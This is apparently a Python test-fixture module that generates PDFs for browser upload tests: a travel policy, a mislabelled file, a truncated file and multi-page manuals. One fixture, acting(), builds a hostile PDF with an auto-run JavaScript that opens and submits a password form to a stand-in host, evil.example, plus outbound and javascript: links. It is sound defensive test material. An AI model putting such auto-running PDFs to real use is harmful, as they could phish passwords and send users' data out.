"""PDFs that people upload in browser tests."""

from __future__ import annotations

from pathlib import Path

from reportlab.lib.pagesizes import A4
from reportlab.pdfbase.pdfdoc import PDFDictionary, PDFName, PDFString
from reportlab.pdfgen.canvas import Canvas

PEOPLE = ("porters", "drivers", "clerks", "cooks", "guards", "nurses", "welders", "painters", "tailors", "bakers")
POLICY = (
    ("Travel policy 2026", ("1 Scope", "This policy holds for all employees of the company.",
                            "It covers trips inside and outside of the country.")),
    ("2 Hotels", ("For stays in Norway the limit is NOK 2,400 a night including breakfast.",
                  "For stays in Denmark the limit is EUR 190 a night.")),
    ("3 Trains", ("Employees travel first class when the ride takes longer than two hours.",
                  "The travel desk books the tickets.")),
)  # fmt: skip


def travel_policy(folder: Path) -> Path:
    path = folder / "travel policy.pdf"
    canvas = Canvas(str(path), pagesize=A4)
    for heading, lines in POLICY:
        canvas.setFont("Helvetica-Bold", 16)
        canvas.drawString(72, 780, heading)
        canvas.setFont("Helvetica", 11)
        for number, line in enumerate(lines):
            canvas.drawString(72, 745 - 24 * number, line)
        canvas.showPage()
    canvas.save()
    return path


def not_a_pdf(folder: Path) -> Path:
    path = folder / "letter.pdf"
    path.write_bytes(b"PK\x03\x04 this is a word processor's file under a wrong name" * 20)
    return path


def broken(folder: Path) -> Path:
    path = folder / "broken.pdf"
    path.write_bytes(travel_policy(folder).read_bytes()[:700])
    return path


def acting(folder: Path) -> Path:
    """A PDF that runs a script when it is opened, and whose whole page is a link out."""
    path = folder / "parcel office.pdf"
    canvas = Canvas(str(path), pagesize=A4)
    canvas.drawString(72, 745, "The parcel office opens at nine in the morning.")
    canvas.linkURL("https://evil.example/link", (0, 0, 595, 842), relative=0)
    canvas.linkURL("https://evil.example/small?secret", (72, 300, 300, 320), relative=0)
    canvas.linkURL("javascript:alert(1)", (72, 200, 300, 220), relative=0)
    canvas.acroForm.textfield(name="password", x=72, y=600, width=200, height=20)
    catalog = canvas._doc.Catalog
    script = "app.launchURL('https://evil.example/js'); this.submitForm('https://evil.example/form');"
    catalog.OpenAction = PDFDictionary({"S": PDFName("JavaScript"), "JS": PDFString(script)})
    canvas.showPage()
    canvas.save()
    return path


def manual(
    folder: Path, name: str, chapters: tuple[tuple[str, str], ...], front_pages: int = 0, contents_on: int = -1
) -> Path:
    """Several pages of running text; one sentence a page is that chapter's own.

    front_pages: so many are numbered i, ii, …; then it is a booklet without headings and with little on each page.
    contents_on: that page (from 0) has a line for each chapter that leads to it.
    """
    path = folder / f"{name}.pdf"
    canvas = Canvas(str(path), pagesize=A4)
    for number, (heading, sentence) in enumerate(chapters):
        if front_pages:
            canvas.addPageLabel(0, "ROMAN_LOWER", 1)
            canvas.addPageLabel(front_pages, "ARABIC", 1)
        else:
            canvas.setFont("Helvetica-Bold", 16)
            canvas.drawString(72, 780, heading)
        canvas.setFont("Helvetica", 11)
        for line in range(3 if front_pages else 14):
            canvas.drawString(72, 745 - 24 * line, sentence if line == 1 else _filler(number, line))
        canvas.drawCentredString(297, 30, str(number + 1))
        canvas.bookmarkPage(f"chapter{number}")
        if number == contents_on:
            for target, (title, _sentence) in enumerate(chapters[contents_on:]):
                canvas.drawString(72, 380 - 24 * target, title)
                canvas.linkRect("", f"chapter{target + contents_on}", (72, 376 - 24 * target, 300, 392 - 24 * target))
        canvas.showPage()
    canvas.save()
    return path


def _filler(page_no: int, line: int) -> str:
    """No two alike: a small model that meets the same line twice says it for ever."""
    first, second = PEOPLE[(page_no + line) % len(PEOPLE)], PEOPLE[(page_no * 5 + line * 7 + 3) % len(PEOPLE)]
    return f"Rule {page_no + 1}.{line + 1} is for {first} and is shown to {second} as well."
